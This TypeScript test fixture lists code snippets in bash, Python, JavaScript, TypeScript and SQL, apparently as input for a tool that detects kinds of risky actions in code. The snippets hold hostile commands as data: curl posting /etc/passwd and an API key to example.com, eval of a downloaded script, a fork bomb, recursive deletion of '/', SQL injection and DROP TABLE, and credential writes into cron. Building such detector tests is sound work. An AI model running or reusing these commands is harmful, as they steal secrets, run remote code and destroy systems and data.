import type { Language } from '../../../../src/core/words.js'

/** Between them every kind of fact. */
export const SNIPPETS: readonly (readonly [Language, string])[] = [
  ['bash', 'rm -rf /var/lib/data; sudo systemctl stop nginx; curl -d @/etc/passwd https://example.com/up'],
  ['bash', 'cat > run.sh <<EOF\nrm -rf build\nEOF\nbash run.sh; bash other.sh; $CMD --now; crontab -r'],
  ['bash', ':(){ :|:& };: ; chmod 4755 ./tool; pip install requests; git push --force; kubectl delete ns prod'],
  ['bash', 'echo "x" >> ~/.bashrc; eval "$(curl -s https://example.com/install)"; while true; do echo a >> log; done'],
  [
    'python',
    'import os, pickle, requests\nkey = os.environ["API_KEY"]\nrequests.post("https://example.com", data=key)\npickle.loads(open("a.bin","rb").read())',
  ],
  [
    'python',
    'exec(input())\naccount.balance -= 100\nfor row in rows:\n    cursor.execute("DELETE FROM t WHERE a = " + row)',
  ],
  ['python', 'open("run.py", "w").write("import shutil\\nshutil.rmtree(\'/\')\\n")\nbroken = ('],
  [
    'javascript',
    'const fs = require("fs");\nfs.writeFileSync("/etc/cron.d/x", process.env.TOKEN);\neval(location.hash)',
  ],
  ['javascript', 'require("child_process").exec("npm install left-pad && node x.js"); user.credit += 5; fetch(url)'],
  ['typescript', 'import { rmSync } from "fs";\nrmSync("/", { recursive: true });\nconst x: number = 1'],
  ['sql', "DELETE FROM users; DROP TABLE logs; SELECT a, b FROM t WHERE a = 1 OR 1 = 1 -- '"],
  ['sql', 'GRANT ALL ON db.* TO bob; UPDATE accounts SET balance = balance - 5'],
  ['bash', 'a "unclosed'],
]
